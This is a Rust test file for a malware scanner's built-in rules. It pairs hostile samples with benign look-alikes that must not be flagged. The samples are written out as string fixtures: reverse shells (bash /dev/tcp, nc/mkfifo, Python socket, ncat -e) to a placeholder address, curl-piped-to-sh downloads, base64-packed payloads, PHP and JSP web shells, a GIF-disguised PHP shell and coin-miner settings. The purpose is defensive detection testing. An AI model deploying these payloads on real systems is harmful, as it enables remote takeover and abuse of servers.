//! Our own rules against short cases: what they must find, and what looks alike and is honest.
use assize_detect::{hashes::Hashes, rules::Rules, scan::FileFacts};
use assize_domain::{text::DevicePath, verdict::Weight};

/// One case: the path, the content, and the rules that must match with the weight of the strongest.
struct Case {
    path: &'static str,
    content: String,
    rules: &'static [&'static str],
    weight: Option<Weight>,
}

fn case(
    path: &'static str,
    content: impl Into<String>,
    rules: &'static [&'static str],
    weight: Option<Weight>,
) -> Case {
    Case { path, content: content.into(), rules, weight }
}

/// A long text of base64 letters.
fn packed() -> String {
    "QWJjRGVm".repeat(20)
}

/// Words that only together make what other scanners on a developer's computer would take away.
fn joined(words: &[&str]) -> String {
    words.concat()
}

fn cases() -> Vec<Case> {
    let odd = Some(Weight::Odd);
    let bad = Some(Weight::Bad);
    let input = |method: &str| joined(&["$_", method, "['c']"]);
    vec![
        // A page that starts what a visitor names, and one that starts something of its own.
        case(
            "/var/lib/tomcat10/webapps/ROOT/a.jsp",
            joined(&["<% Process p = Runtime.getRun", "time().exec(request.getParam", "eter(\"c\")); %>"]),
            &["web_shell_java_page"],
            odd,
        ),
        case(
            "/var/lib/tomcat10/webapps/ROOT/b.jsp",
            joined(&["<% String name = request.getParam", "eter(\"name\"); %><%= name %>"]),
            &[],
            None,
        ),
        // A shell for somebody else.
        case(
            "/var/www/u/a.sh",
            joined(&["#!/bin/bash\nbash -i >& /dev", "/tcp/192.0.2.1/44 0>&1\n"]),
            &["reverse_shell_in_script"],
            odd,
        ),
        case(
            "/tmp/a",
            joined(&[
                "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc",
                " 192.0.2.1 44 >/tmp/f\n",
            ]),
            &["reverse_shell_in_script"],
            odd,
        ),
        case(
            "/tmp/a.py",
            joined(&[
                "import socket,os\ns=socket.socket()\ns.connect(('192.0.2.1',44))\nos.dup2(s.fileno(),0)\nos.dup",
                "2(s.fileno(),1)\n",
            ]),
            &["reverse_shell_in_script"],
            odd,
        ),
        case(
            "/tmp/a.sh",
            joined(&["#!/bin/sh\nncat -e", " /bin/sh 192.0.2.1 44\n"]),
            &["reverse_shell_in_script"],
            odd,
        ),
        case(
            "/usr/local/bin/wait",
            "#!/bin/bash\nuntil timeout 1 bash -c '</dev/tcp/db/5432'; do sleep 1; done\n",
            &[],
            None,
        ),
        case("/home/a/notes.md", joined(&["A shell like `bash -i >& /dev", "/tcp/1.2.3.4/5` is bad.\n"]), &[], None),
        case(
            "/usr/local/bin/check",
            joined(&["#!/bin/sh\n# bash -i >& /dev", "/tcp/1.2.3.4/5 would be bad\nnc -z host 22\n"]),
            &[],
            None,
        ),
        // What runs whatever comes.
        case(
            "/tmp/i.sh",
            "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n",
            &["download_from_bare_address_run_at_once"],
            odd,
        ),
        case(
            "/tmp/i.sh",
            "#!/bin/sh\neval \"$(curl -s http://192.0.2.1/x)\"\n",
            &["download_from_bare_address_run_at_once"],
            odd,
        ),
        case("/home/a/Downloads/install.sh", "#!/bin/sh\ncurl -fsSL https://get.example.com/x | tar xz\n", &[], None),
        case("/usr/local/bin/ip", "#!/bin/sh\nIP=$(curl -s http://192.0.2.1/ip)\necho $IP | sh-quote\n", &[], None),
        // Packed text.
        case(
            "/tmp/p.sh",
            format!("#!/bin/sh\necho {} | base64 -d | sh\n", packed()),
            &["encoded_payload_run_by_script"],
            odd,
        ),
        case(
            "/tmp/p.py",
            format!("#!/usr/bin/python3\nexec(base64.b64decode('{}'))\n", packed()),
            &["encoded_payload_run_by_script"],
            odd,
        ),
        case("/usr/local/bin/cert", format!("#!/bin/sh\necho {} | base64 -d > /srv/cert.pem\n", packed()), &[], None),
        case(
            "/srv/p.php",
            joined(&["<?php ev", "al(gzinflate(base64_", "decode('", &packed(), "'))); ?>"]),
            &["packed_php_code"],
            odd,
        ),
        // Doors in a web server.
        case("/srv/s.php", format!("<?php @ev{}({}); ?>", "al", input("POST")), &["web_shell_one_liner"], bad),
        case("/srv/s.php", format!("<?php sys{}({}); ?>", "tem", input("GET")), &["web_shell_one_liner"], bad),
        case(
            "/srv/big.php",
            format!("<?php /*{}*/ sys{}({}); ?>", "x".repeat(2000), "tem", input("GET")),
            &["web_shell_in_page"],
            odd,
        ),
        case("/srv/ok.php", "<?php echo \"ok\"; ?>", &[], None),
        case(
            "/srv/form.php",
            "<?php $n = trim($_POST['name']); echo htmlspecialchars($n); exec('/usr/bin/convert a b'); ?>",
            &[],
            None,
        ),
        // Pictures that are programs.
        case("/srv/i/logo.php", "GIF89a<?php exit; ?>", &["program_behind_image_header"], odd),
        case(
            "/srv/i/logo.gif",
            format!("GIF89a<?php sys{}({}); ?>", "tem", input("GET")),
            &["program_behind_image_header", "web_shell_behind_image_header", "web_shell_one_liner"],
            bad,
        ),
        case("/srv/i/photo.gif", format!("GIF89a{} <?php in a comment ", "x".repeat(500)), &[], None),
        case("/srv/i/photo.gif", "GIF89a\u{1}\u{2}", &[], None),
        // Miners.
        case(
            "/dev/shm/c.json",
            joined(&["{\"pools\":[{\"url\":\"stratum", "+tcp://pool:3333\",\"user\":\"W\",\"pass\":\"x\"}]}"]),
            &["coin_miner_settings"],
            odd,
        ),
        case("/srv/app.json", "{\"pools\":[{\"url\":\"postgres://db\",\"user\":\"app\"}]}", &[], None),
        case(
            "/tmp/m.sh",
            joined(&["#!/bin/sh\n./x -o stratum", "+tcp://pool:3333 -u W -p x\n"]),
            &["coin_miner_started_by_script"],
            odd,
        ),
    ]
}

#[test]
fn our_own_rules_find_what_they_are_for_and_nothing_that_looks_alike() {
    let (rules, faults) = Rules::compile(&[], None);
    assert_eq!(faults, []);
    let mut scanner = rules.scanner();
    for case in cases() {
        let path = DevicePath::from(case.path);
        let content = case.content.as_bytes();
        let about = FileFacts { path: &path, owner: "root" };
        let findings = scanner.scan(content, &about, &Hashes::of(content).unwrap());
        let mut found: Vec<&str> = findings.iter().filter_map(|f| f.rule.as_deref()).collect();
        found.sort_unstable();
        assert_eq!(found, case.rules, "{}: {}", case.path, case.content);
        assert_eq!(findings.iter().map(|f| f.weight).max(), case.weight, "{}", case.content);
        assert!(findings.iter().all(|f| f.author.as_deref() == Some("Assize") && f.text.ends_with('.')));
    }
}

#[test]
fn every_rule_of_ours_is_shown_to_match() {
    let shown: std::collections::BTreeSet<&str> = cases().iter().flat_map(|c| c.rules.iter().copied()).collect();
    let (rules, _) = Rules::compile(&[], None);
    // One of them is private: it only helps the others.
    assert_eq!(shown.len() + 1, rules.rule_count());
}

/// M22: a rule says which version it is: that of its file, so that a change of the file is a new rule; a line of a hash list
/// stays the same whatever stands beside it; our own are known as ours.
#[test]
fn a_finding_tells_the_version_of_its_rule() {
    use assize_domain::question::{RuleFile, RuleKind};
    let content = b"a very recognisable text";
    let hashes = Hashes::of(&content[..]).unwrap();
    let yara = |extra: &str| RuleFile {
        name: "mine.yar".into(),
        kind: RuleKind::Yara,
        body: format!("rule mine {{ strings: $a = \"recognisable\" condition: $a }}\n{extra}"),
    };
    let list = |extra: &str| RuleFile {
        name: "list.hsb".into(),
        kind: RuleKind::ClamavHsb,
        body: format!("{}:*:Mine\n{extra}", hashes.sha256),
    };
    let versions = |extra: &str, line: &str| {
        let (rules, faults) = Rules::compile(&[yara(extra), list(line)], None);
        assert_eq!(faults, []);
        let path = DevicePath::from("/tmp/x");
        let facts = FileFacts { path: &path, owner: "root" };
        let mut found = rules.scanner().scan(content, &facts, &hashes);
        found.retain(|f| matches!(f.rule.as_deref(), Some("mine" | "Mine")));
        found.into_iter().map(|f| (f.rule.unwrap(), f.version.unwrap())).collect::<std::collections::BTreeMap<_, _>>()
    };
    let other = format!("{}:*:Other\n", "ab".repeat(32));
    let (before, same, changed) = (versions("", ""), versions("", &other), versions("// newer", ""));
    assert_eq!(before.len(), 2, "{before:?}");
    assert_eq!(before, same, "another line makes no other rule of this one");
    assert_ne!(before["mine"], changed["mine"]);
    assert_eq!(before["Mine"], changed["Mine"]);
    assert!(before.values().all(|v| !v.starts_with(assize_domain::verdict::OWN_VERSION)));
}
